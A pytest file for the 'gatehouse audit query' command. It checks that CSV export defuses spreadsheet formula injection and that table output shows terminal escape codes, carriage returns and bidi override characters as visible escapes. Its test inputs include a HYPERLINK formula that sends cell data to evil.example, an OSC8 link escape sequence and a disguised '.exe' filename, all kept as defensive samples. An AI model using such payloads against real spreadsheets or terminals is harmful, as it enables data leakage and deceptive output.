"""``gatehouse audit query`` output: hostile cell text is inert in CSV and visible in a table."""

from __future__ import annotations

import csv
import io

import pytest

from gatehouse.query.command import format_table, write_result
from gatehouse.query.result import QueryResult

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
OSC8 = "curl\x1b]8;;http://evil.example\x07click\x1b]8;;\x07\x1b[2K\rok"


def result(*values: object) -> QueryResult:
    return QueryResult(["value"], [(value,) for value in values], "local")


def csv_cells(text: str) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(text))][1:]


def test_csv_cells_are_defused_and_numbers_stay_numbers() -> None:
    out = io.StringIO()
    write_result(result(HYPERLINK, " =1+1", "\uff1d1", -3, 2.5, "plain", "a\udc80"), "csv", out)
    assert csv_cells(out.getvalue()) == [
        "'" + HYPERLINK,
        "' =1+1",
        "'\uff1d1",
        "-3",
        "2.5",
        "plain",
        "a\\udc80",
    ]


def test_csv_cells_show_terminal_controls_as_escapes() -> None:
    out = io.StringIO()
    write_result(result(OSC8), "csv", out)
    [cell] = csv_cells(out.getvalue())
    assert "\x1b" not in cell
    assert "\r" not in out.getvalue()
    assert cell == "curl\\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07\\x1b[2K\\x0dok"


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (OSC8, "curl\\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07\\x1b[2K\\x0dok"),
        ("ok\rFAKE", "ok\\x0dFAKE"),
        ("a\nb", "a\\x0ab"),
        ("gnp.\u202eexe", "gnp.\\u202eexe"),
        ("\u2066x\u2069", "\\u2066x\\u2069"),
        ("del\x7f c1\x9b", "del\\x7f c1\\x9b"),
        ("caf\u00e9 \u65e5\u672c", "caf\u00e9 \u65e5\u672c"),
        ("lone\udc80", "lone\\udc80"),
    ],
    ids=repr,
)
def test_table_shows_control_and_bidi_characters_as_escapes(value: str, shown: str) -> None:
    table = format_table(["value"], [(value,)], max_width=200)
    assert table.splitlines()[2] == shown
    assert not any(char in table for char in "\x1b\x07\r\u202e\u2066\u2069\x7f\x9b")


def test_table_escapes_column_names_too() -> None:
    out = io.StringIO()
    write_result(QueryResult(["\x1b[31mred"], [(1,)], "local"), "table", out)
    assert out.getvalue().startswith("\\x1b[31mred")
